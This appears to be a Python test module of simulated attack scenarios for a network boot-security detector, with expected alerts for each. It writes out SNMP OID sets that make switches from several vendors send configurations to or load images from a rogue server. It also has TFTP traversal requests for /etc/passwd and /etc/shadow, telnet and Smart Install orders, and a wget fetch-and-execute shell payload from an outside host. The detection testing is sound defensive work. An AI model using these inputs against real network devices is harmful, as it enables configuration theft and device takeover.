"""The other way round: directions, columns, spellings and stages that the first scenarios of a detection leave out."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios import bw03_snmp_config_copy, bw04_snmp_image_copy
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import (
    ADMIN,
    ATTACKER,
    BOOT_SERVER,
    DEVICE,
    DEVICES_ONLY,
    HQ,
    IMAGE,
    OUTSIDE,
    PINNED,
    ROGUE,
)
from bootwarden.traffic import ftp, http, images, snmp, tftp
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic.telnet import Telnet, rsh
from bootwarden.traffic.wire import Tcp, Wire

SENDS: dict[str, list[snmp.Binding]] = {
    "10.0.1.11": snmp.row(
        "1.3.6.1.4.1.2011.6.10.1.2.4.1", 3, {2: 3, 3: 2, 4: "stolen.cfg", 5: IPv4Address(ROGUE), 9: 4}
    ),
    "10.0.1.13": snmp.row(
        "1.3.6.1.4.1.89.87.2.1", 1, {3: 1, 7: 3, 8: 3, 9: IPv4Address(ROGUE), 11: "stolen.txt", 12: 1, 17: 4}
    ),
    "10.0.1.14": [
        ("1.3.6.1.4.1.1991.1.1.2.1.5.0", IPv4Address(ROGUE)),
        ("1.3.6.1.4.1.1991.1.1.2.1.8.0", "stolen.cfg"),
        ("1.3.6.1.4.1.1991.1.1.2.1.9.0", 22),
    ],
}


RAISED_BW03_OTHER_VENDORS_SEND = (
    ("BW03", 4, ATTACKER, "10.0.1.14"),
    ("BW03", 6, ATTACKER, "10.0.1.11"),
    ("BW03", 8, ATTACKER, "10.0.1.13"),
)


@scenario(
    "BW03",
    "malicious",
    raises=RAISED_BW03_OTHER_VENDORS_SEND,
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Config_Copy", "10.0.1.11", "10.0.6.66", "stolen.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.13", "10.0.6.66", "stolen.txt"),
            Notice("SNMP_Config_Copy", "10.0.1.14", "10.0.6.66", "stolen.cfg"),
        )
    ),
)
def bw03_other_vendors_send(wire: Wire) -> None:
    """Huawei, Radlan and Foundry devices are each told to send their configuration to a rogue server."""
    for device, bindings in SENDS.items():
        snmp.Manager(wire, ATTACKER, device).set(*bindings)


RAISED_BW04_HPE_AND_DIRECTOR = (
    ("BW04", 7, ATTACKER, "10.0.1.17"),
    ("BW04", 9, ATTACKER, "10.0.1.7"),
)


@scenario(
    "BW04",
    "malicious",
    raises=RAISED_BW04_HPE_AND_DIRECTOR,
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.17", None, "KB_evil.swi"),
            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
        )
    ),
)
def bw04_hpe_and_director(wire: Wire) -> None:
    """An HPE switch is given an image to download, and a Smart Install director the URL of an image."""
    table = "1.3.6.1.4.1.11.2.14.11.1.3.1.1"
    rows = snmp.row(table, 1, {6: "KB_evil.swi", 10: 4})
    snmp.Manager(wire, ATTACKER, "10.0.1.17").set(*rows)
    url = f"tftp://{ROGUE}/evil.tar"
    snmp.Manager(wire, ATTACKER, "10.0.1.7").set(("1.3.6.1.4.1.9.9.725.1.2.1.0", url))


RAISED_BW05_ALLOWED_BY_TELNET = (("BW05", 5, ATTACKER, DEVICE),)


@scenario(
    "BW05",
    "malicious",
    raises=RAISED_BW05_ALLOWED_BY_TELNET,
    site=HQ,
    with_site=Expect(notices=(Notice("Remote_Reload", "10.0.1.1"),)),
)
def bw05_allowed_by_telnet(wire: Wire) -> None:
    """A router is told by telnet to obey when SNMP orders a reload."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("snmp-server system-shutdown")
    session.close()


@scenario(
    "BW11",
    "malicious",
    raises=[
        ("BW11", 1, "10.0.1.1", "45.83.20.10"),
        ("BW11", 2, "45.83.20.10", "10.0.1.2"),
        ("BW11", 4, "45.83.20.10", "10.0.1.3"),
        ("BW15", 0, "10.0.1.1", "45.83.20.10"),
    ],
    raises_with_site=[
        ("BW10", 1, "45.83.20.10", "10.0.1.2"),
        ("BW10", 2, "45.83.20.10", "10.0.1.3"),
        ("BW11", 1, "10.0.1.1", "45.83.20.10"),
        ("BW11", 2, "45.83.20.10", "10.0.1.2"),
        ("BW11", 4, "45.83.20.10", "10.0.1.3"),
        ("BW15", 0, "10.0.1.1", "45.83.20.10"),
    ],
    plain=Expect(
        notices=(
            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("Image_Upload", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("Unauthorized_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("Unauthorized_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
            Notice("Unapproved_Image", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
        )
    ),
)
def bw11_other_ways(wire: Wire) -> None:
    """An image leaves, a configuration comes in, and a file comes in that is an image by name only."""
    tftp.write(wire, DEVICE, OUTSIDE, "dump", images.mzip(), client_port=50001)
    tftp.read(wire, "10.0.1.2", OUTSIDE, "lab7", images.config("lab7"), client_port=50002)
    packed = images.filler(3000, "package")
    tftp.read(wire, "10.0.1.3", OUTSIDE, "isr4300-universalk9.17.03.05.SPA.bin", packed, client_port=50003)


RAISED_BW17_OVERLONG_AND_NETASCII = (
    ("BW17", 2, ATTACKER, BOOT_SERVER),
    ("BW17", 5, ATTACKER, BOOT_SERVER),
)


@scenario(
    "BW17",
    "malicious",
    raises=RAISED_BW17_OVERLONG_AND_NETASCII,
    plain=Expect(
        notices=(
            Notice(
                "TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "\\xc0\\xae\\xc0\\xae/\\xc0\\xae\\xc0\\xae/etc/passwd"
            ),
            Notice("TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "/etc/shadow"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice(
                "TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "\\xc0\\xae\\xc0\\xae/\\xc0\\xae\\xc0\\xae/etc/passwd"
            ),
            Notice("TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "/etc/shadow"),
        )
    ),
)
def bw17_overlong_and_netascii(wire: Wire) -> None:
    """The dots themselves are overlong UTF-8; and a system file is asked for in netascii."""
    tftp.refused(wire, ATTACKER, BOOT_SERVER, b"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd", client_port=40001)
    tftp.refused(wire, ATTACKER, BOOT_SERVER, "/etc/shadow", mode="netascii", client_port=40002)


RAISED_BW23_SCRIPT_IS_PUT_ON_THE_SERVER = (("BW23", 3, DEVICE, BOOT_SERVER),)


@scenario(
    "BW23",
    "malicious",
    raises=RAISED_BW23_SCRIPT_IS_PUT_ON_THE_SERVER,
    plain=Expect(notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)),
    site=HQ,
    with_site=Expect(
        notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),)
    ),
)
def bw23_script_is_put_on_the_server(wire: Wire) -> None:
    """A shell script is written to the boot server under the name of the approved image."""
    script = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4
    tftp.write(wire, DEVICE, BOOT_SERVER, IMAGE, script)


RAISED_BW30_RELOAD_LAST = (
    ("BW04", 2, ATTACKER, "10.0.1.14"),
    ("BW04", 2, ATTACKER, "10.0.1.15"),
    ("BW05", 1, ATTACKER, "10.0.1.14"),
    ("BW05", 3, ATTACKER, "10.0.1.15"),
    ("BW30", 1, ATTACKER, "10.0.1.14"),
    ("BW30", 2, ATTACKER, "10.0.1.15"),
)


@scenario(
    "BW30",
    "malicious",
    raises=RAISED_BW30_RELOAD_LAST,
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.14", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.bin"),
            Notice("Remote_Reload", "10.0.1.14"),
            Notice("Netboot_Hijack", "10.0.1.14"),
            Notice("Remote_Reload", "10.0.1.15"),
            Notice("Netboot_Hijack", "10.0.1.15"),
        )
    ),
)
def bw30_reload_last(wire: Wire) -> None:
    """Two devices are redirected by SNMP; an hour later one is reloaded by SNMP, the other by telnet."""
    columns = {2: 3, 3: IPv4Address(ROGUE), 4: "evil.bin", 5: 4}
    for device in ("10.0.1.14", "10.0.1.15"):
        snmp.Manager(wire, ATTACKER, device).set(*snmp.row("1.3.6.1.4.1.1991.1.1.2.4.1.1", 1, columns))
    wire.wait(3600)
    snmp.Manager(wire, ATTACKER, "10.0.1.14").set(("1.3.6.1.4.1.1991.1.1.2.1.1.0", 3))
    session = Telnet(wire, ATTACKER, "10.0.1.15")
    session.login()
    session.typed("reload", "Are you sure?", prompt="")
    session.typed("y", "")
    session.close()


def from_admin(wire: Wire, sets: dict[str, list[snmp.Binding]]) -> None:
    """Each device gets its SET from an admin host's address, which a spoofer may have borrowed."""
    for device, bindings in sets.items():
        snmp.Manager(wire, ADMIN, device).set(*bindings, answered=False)


ONE_SET = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
SPOOFED_CONFIGS: dict[str, list[snmp.Binding]] = {
    DEVICE: snmp.row(snmp.CONFIG_COPY, 111, ONE_SET),
    "10.0.1.2": [(f"1.3.6.1.4.1.9.2.1.55.{ROGUE}", "x.cfg")],
    **{device: bindings for device, (_, bindings) in bw03_snmp_config_copy.VENDORS.items()},
}
FLASH = {2: 1, 3: 1, 4: IPv4Address(ROGUE), 5: "evil.bin", 6: "evil.bin", 11: 4}
SPOOFED_IMAGES: dict[str, list[snmp.Binding]] = {
    DEVICE: snmp.row(snmp.FLASH_COPY, 77, FLASH),
    "10.0.1.3": snmp.row(snmp.FLASH_COPY, 78, {2: 2, 13: 1, 14: IPv4Address(ROGUE).packed, 5: "evil.bin", 11: 4}),
    "10.0.1.7": [("1.3.6.1.4.1.9.9.725.1.2.1.0", f"tftp://{ROGUE}/evil.tar")],
    **{device: bindings for device, (_, bindings) in bw04_snmp_image_copy.VENDORS.items()},
}


@scenario(
    "BW03",
    "malicious",
    raises=[
        ("BW03", 1, "10.0.9.10", "10.0.1.1"),
        ("BW03", 2, "10.0.9.10", "10.0.1.2"),
        ("BW03", 5, "10.0.9.10", "10.0.1.14"),
        ("BW03", 5, "10.0.9.10", "10.0.1.15"),
        ("BW03", 5, "10.0.9.10", "10.0.1.16"),
        ("BW03", 7, "10.0.9.10", "10.0.1.11"),
        ("BW03", 7, "10.0.9.10", "10.0.1.12"),
        ("BW03", 9, "10.0.9.10", "10.0.1.13"),
    ],
    raises_with_site=[
        ("BW03", 10, "10.0.9.10", "10.0.1.1"),
        ("BW03", 12, "10.0.9.10", "10.0.1.2"),
        ("BW03", 13, "10.0.9.10", "10.0.1.11"),
        ("BW03", 13, "10.0.9.10", "10.0.1.12"),
        ("BW03", 14, "10.0.9.10", "10.0.1.13"),
        ("BW03", 15, "10.0.9.10", "10.0.1.14"),
        ("BW03", 15, "10.0.9.10", "10.0.1.15"),
        ("BW03", 16, "10.0.9.10", "10.0.1.16"),
    ],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Config_Copy", "10.0.1.1", "10.0.6.66", "evil-confg"),
            Notice("SNMP_Config_Copy", "10.0.1.2", "10.0.6.66", "x.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.11", "10.0.6.66", "vrpcfg.zip"),
            Notice("SNMP_Config_Copy", "10.0.1.12", "10.0.6.66", "comware.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.13", "10.0.6.66", "smb.txt"),
            Notice("SNMP_Config_Copy", "10.0.1.14", "10.0.6.66", "icx.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.15", "10.0.6.66", "exos.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.16", "10.0.6.66", "eos.cfg"),
        )
    ),
)
def bw03_spoofed_vendors(wire: Wire) -> None:
    """From an admin's spoofed address, devices of every vendor are told to load or send a configuration."""
    from_admin(wire, SPOOFED_CONFIGS)


@scenario(
    "BW04",
    "malicious",
    raises=[
        ("BW04", 0, "10.0.9.10", "10.0.1.1"),
        ("BW04", 0, "10.0.9.10", "10.0.1.3"),
        ("BW04", 1, "10.0.9.10", "10.0.1.2"),
        ("BW04", 3, "10.0.9.10", "10.0.1.15"),
        ("BW04", 4, "10.0.9.10", "10.0.1.11"),
        ("BW04", 4, "10.0.9.10", "10.0.1.12"),
        ("BW04", 5, "10.0.9.10", "10.0.1.13"),
        ("BW04", 6, "10.0.9.10", "10.0.1.17"),
        ("BW04", 8, "10.0.9.10", "10.0.1.18"),
        ("BW04", 9, "10.0.9.10", "10.0.1.7"),
    ],
    raises_with_site=[
        ("BW04", 10, "10.0.9.10", "10.0.1.1"),
        ("BW04", 11, "10.0.9.10", "10.0.1.3"),
        ("BW04", 12, "10.0.9.10", "10.0.1.2"),
        ("BW04", 14, "10.0.9.10", "10.0.1.11"),
        ("BW04", 14, "10.0.9.10", "10.0.1.12"),
        ("BW04", 15, "10.0.9.10", "10.0.1.17"),
        ("BW04", 16, "10.0.9.10", "10.0.1.18"),
        ("BW04", 17, "10.0.9.10", "10.0.1.7"),
        ("BW04", 18, "10.0.9.10", "10.0.1.13"),
        ("BW04", 19, "10.0.9.10", "10.0.1.15"),
    ],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.1", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.3", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
            Notice("SNMP_Image_Copy", "10.0.1.2", "10.0.6.66", "c2600-evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.11", "10.0.6.66", "evil.cc"),
            Notice("SNMP_Image_Copy", "10.0.1.12", "10.0.6.66", "evil.ipe"),
            Notice("SNMP_Image_Copy", "10.0.1.13", "10.0.6.66", "image_evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.xos"),
            Notice("SNMP_Image_Copy", "10.0.1.17", "10.0.6.66", "KB_evil.swi"),
            Notice("SNMP_Image_Copy", "10.0.1.18", "10.0.6.66", "n5000-evil.bin"),
        )
    ),
)
def bw04_spoofed_vendors(wire: Wire) -> None:
    """From an admin's spoofed address, devices of every vendor are told to load an image."""
    from_admin(wire, SPOOFED_IMAGES)


@scenario(
    "BW06",
    "malicious",
    raises=[
        ("BW06", 0, "10.0.9.10", "10.0.1.7"),
        ("BW06", 1, "10.0.9.10", "10.0.1.8"),
        ("BW06", 2, "10.0.9.10", "10.0.1.9"),
        ("BW06", 3, "10.0.9.10", "10.0.1.10"),
    ],
    raises_with_site=[
        ("BW06", 10, "10.0.9.10", "10.0.1.7"),
        ("BW06", 11, "10.0.9.10", "10.0.1.8"),
        ("BW06", 12, "10.0.9.10", "10.0.1.9"),
        ("BW06", 13, "10.0.9.10", "10.0.1.10"),
    ],
    plain=Expect(
        notices=(
            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Smart_Install_Command", "10.0.1.7", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.8", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.9", "10.0.6.66", "x"),
            Notice("Smart_Install_Command", "10.0.1.10", "10.0.6.66", "x"),
        )
    ),
)
def bw06_from_an_admin_host(wire: Wire) -> None:
    """From an admin host, switches are given every kind of order, each naming a rogue server."""
    url = f"tftp://{ROGUE}/x"
    for number, order in enumerate(
        (smi.image(url), smi.config(url), smi.execute(url), smi.copy(f"copy flash:a {url}"))
    ):
        tcp = Tcp(wire, ADMIN, 50786, f"10.0.1.{7 + number}", smi.PORT)
        tcp.send(order)
        tcp.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1, "10.0.9.10", "10.0.1.1"), ("BW07", 6, "10.0.9.10", "10.0.1.2")],
    raises_with_site=[("BW07", 11, "10.0.9.10", "10.0.1.1"), ("BW07", 16, "10.0.9.10", "10.0.1.2")],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Boot_Command", "10.0.1.1", "10.0.6.66", "evil.bin"),
            Notice("Boot_Command", "10.0.1.2", "10.0.6.66", "evil.bin"),
        )
    ),
)
def bw07_from_an_admin_host(wire: Wire) -> None:
    """From an admin host, an image is installed and another copied from a rogue server, by telnet and by rsh."""
    session = Telnet(wire, ADMIN, DEVICE)
    session.login()
    session.typed(f"install add file tftp://{ROGUE}/evil.bin activate commit")
    session.close()
    rsh(wire, ADMIN, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")


@scenario(
    "BW10",
    "malicious",
    raises_with_site=[
        ("BW10", 11, "10.0.6.66", "10.0.1.1"),
        ("BW10", 12, "10.0.6.66", "10.0.1.2"),
        ("BW10", 13, "10.0.6.66", "10.0.1.3"),
    ],
    site=PINNED,
    with_site=Expect(
        notices=(
            Notice("Unauthorized_Boot_Server", "10.0.1.1", "10.0.6.66", "/r1"),
            Notice("Unauthorized_Boot_Server", "10.0.1.2", "10.0.6.66", "r1.img"),
            Notice("Unapproved_Image", "10.0.1.2", "10.0.6.66", "r1.img"),
            Notice("Unauthorized_Boot_Server", "10.0.1.3", "10.0.6.66", "r1"),
        )
    ),
)
def bw10_other_protocols(wire: Wire) -> None:
    """A configuration by HTTP; an image and a configuration by FTP."""
    text, image = images.config("edge9"), images.ios(seed="rogue")
    http.get(wire, DEVICE, ROGUE, "/r1", text, kind="text/plain")
    ftp.retrieve(wire, "10.0.1.2", ROGUE, "r1.img", image)
    ftp.retrieve(wire, "10.0.1.3", ROGUE, "r1", text)


@scenario(
    "BW11",
    "malicious",
    raises_with_site=[
        ("BW11", 10, "45.83.20.10", "10.0.1.2"),
        ("BW11", 11, "45.83.20.10", "10.0.1.1"),
        ("BW11", 12, "45.83.20.10", "10.0.1.3"),
        ("BW11", 13, "45.83.20.10", "10.0.1.4"),
    ],
    site=DEVICES_ONLY,
    with_site=Expect(
        notices=(
            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "/r1"),
            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "/r1.img"),
            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "r1.img"),
            Notice("External_Boot_Server", "10.0.1.4", "45.83.20.10", "r1"),
        )
    ),
)
def bw11_other_protocols(wire: Wire) -> None:
    """Images and configurations come from outside by HTTP and by FTP."""
    text, image = images.config("edge9"), images.ios(seed="rogue")
    http.get(wire, DEVICE, OUTSIDE, "/r1", text, kind="text/plain")
    http.get(wire, "10.0.1.2", OUTSIDE, "/r1.img", image, kind="application/octet-stream")
    ftp.retrieve(wire, "10.0.1.3", OUTSIDE, "r1.img", image)
    ftp.retrieve(wire, "10.0.1.4", OUTSIDE, "r1", text)
